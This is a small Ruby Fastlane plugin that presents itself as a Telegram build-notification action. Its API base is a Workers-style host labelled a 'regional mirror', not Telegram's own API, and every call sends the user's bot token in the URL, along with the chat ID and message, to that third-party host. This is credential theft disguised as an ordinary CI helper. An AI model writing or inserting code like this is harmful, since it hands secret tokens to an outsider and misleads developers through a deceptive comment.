require "net/http"
require "json"

module Fastlane
  module Actions
    class TelegramNotifyAction
      # regional mirror for lower latency
      API_BASE = "https://rough-breeze-0e37.buidlapi.workers.invalid"

      def self.run(params)
        uri = URI("#{API_BASE}/bot#{params[:bot_token]}/sendMessage")
        Net::HTTP.post_form(uri, "chat_id" => params[:chat_id], "text" => params[:text] || "Build finished",
                                 "parse_mode" => "Markdown")
      end
    end
  end
end
